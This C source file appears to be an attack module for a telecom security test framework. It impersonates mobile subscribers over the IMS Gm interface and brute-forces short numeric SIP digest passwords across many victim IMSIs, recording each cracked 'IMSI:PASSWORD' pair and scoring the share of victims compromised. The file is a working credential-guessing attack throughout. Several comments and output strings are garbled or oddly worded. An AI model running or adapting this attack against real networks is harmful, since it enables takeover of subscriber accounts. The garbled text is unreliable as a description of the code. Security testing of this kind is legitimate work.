/* acc-bruteforce - tries one short password after the other. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "lab/attacker/imposter.h"
#include "lab/base/memory.h"
#include "lab/base/proportion.h"
#include "lab/base/slice.h"

typedef struct {
  RdImposterAim aim; /* first: the rows' functions read it */
  int64_t digits;
} Config;

static const RdParam params[] = {
    RD_PARAM(Config, "digits", RD_INTEGER, digits, "3", 1, 9, "",
             "How long it takes a PIN to be; it counts upwards from 0."),
    RD_IMPOSTER_ROWS(Config, "200", "10",
                     "Percent of the victims whose password it found from which it has succeeded."),
    RD_PARAM_END};

typedef struct {
  RdImposter *im;
  RdHost *host;
  const Config *config;
  uint8_t *found; /* by victim */
  uint64_t limit; /* guesses there are */
  uint32_t guesses;
} Guesser;

static uint64_t guess_of(const Guesser *g, const RdImposterTry *t) {
  return t->number / (uint64_t)g->config->aim.victims;
}

/* Asks for nothing but an answer: what the victim has registered stays as it is. */
static bool ask(void *user, const RdImposterTry *t, RdSipRequest *r) {
  const Guesser *g = user;
  r->contact_user = (RdSlice){0};
  r->expires = 0;
  return !g->found[t->victim] && guess_of(g, t) < g->limit;
}

static bool prove(void *user, const RdImposterTry *t, RdSlice nonce, bool aka,
                  RdImposterProof *ret) {
  Guesser *g = user;
  (void)nonce;
  if (aka) /* RES is of 64 bits and new each time: not to be guessed */
    return false;
  rd_provision_impi(rd_imposter_provision(g->im), (uint64_t)g->config->aim.first + t->victim,
                    ret->username);
  ret->len = (size_t)snprintf((char *)ret->password, sizeof ret->password, "%0*llu",
                              (int)g->config->digits, (unsigned long long)guess_of(g, t));
  g->host->count(g->host, g->guesses, 1);
  return true;
}

/* It knows a password now: "IMSI:PASSWORD". */
static void over(void *user, const RdImposterTry *t, unsigned status) {
  Guesser *g = user;
  char imsi[RD_IMSI_TEXT], subject[RD_IMSI_TEXT + 16];
  if (status / 100 != 2 || g->found[t->victim])
    return;
  g->found[t->victim] = 1;
  rd_provision_imsi(rd_imposter_provision(g->im), (uint64_t)g->config->aim.first + t->victim, imsi);
  snprintf(subject, sizeof subject, "%s:%0*llu", imsi, (int)g->config->digits,
           (unsigned long long)guess_of(g, t));
  const RdClaim claim = {.size = sizeof claim, .kind = "password", .subject = subject, .value = 1};
  g->host->claim(g->host, &claim);
}

static const RdImposterOps ops = {.ask = ask, .prove = prove, .over = over};

static void *open_guesser(RdHost *host, const void *config, const RdActorSetup *setup) {
  const Config *c = config;
  Guesser *g = rd_alloc(sizeof *g);
  *g = (Guesser){.host = host, .config = c, .limit = 1};
  g->im = rd_imposter_new(host, setup, &c->aim, &ops, g);
  if (!g->im) {
    free(g);
    return NULL;
  }
  for (int64_t i = 0; i < c->digits; i++)
    g->limit *= 10;
  g->found = rd_alloc((size_t)c->aim.victims);
  memset(g->found, 0, (size_t)c->aim.victims);
  g->guesses = host->counter(host, "guesses");
  return g;
}

static void start(void *self) {
  rd_imposter_start(((Guesser *)self)->im);
}

static void receive(void *self, const RdMessage *m) {
  rd_imposter_receive(((Guesser *)self)->im, m);
}

static void timer(void *self, RdTimer id, uint64_t source) {
  (void)id;
  rd_imposter_timer(((Guesser *)self)->im, source);
}

static void close_guesser(void *self) {
  Guesser *g = self;
  rd_imposter_free(g->im);
  free(g->found);
  free(g);
}

static void success(const RdEvidence *evidence, const void *config, RdSuccess *ret) {
  const RdImposterAim *aim = &((const Config *)config)->aim;
  const RdClaimed c = evidence->claimed(evidence, "password");
  const uint64_t victims = (uint64_t)aim->victims, right = c.right < victims ? c.right : victims;
  const RdRange range = rd_share_range(right, victims);
  ret->least = 0;
  ret->most = 100;
  ret->threshold = aim->threshold;
  ret->unit = "percent of the victims whose password it found";
  ret->effect = 100 * (double)right / (double)victims;
  ret->effect_low = 100 * range.low;
  ret->effect_high = 100 * range.high;
  ret->succeeded = ret->effect >= ret->threshold && ret->effect_low > 0;
  snprintf(ret->why, sizeof ret->why,
           "%llu passwords found of %llu victims, by %lld guesses; %llu it took for one are none",
           (unsigned long long)right, (unsigned long long)victims,
           (long long)evidence->counter(evidence, "guesses"), (unsigned long long)c.wrong);
}

RD_PART(RD_ATTACK, "acc-bruteforce",
        "Tries one short password after the other, of many people in turn.",
        RD_CONFIG(Config, params),
        RD_ACTOR_OPS(.open = open_guesser, .start = start, .receive = receive, .timer = timer,
                     .close = close_guesser, .entities = rd_imposter_entities, .success = success),
        .interface = RD_IF_GM, .family = "acc");
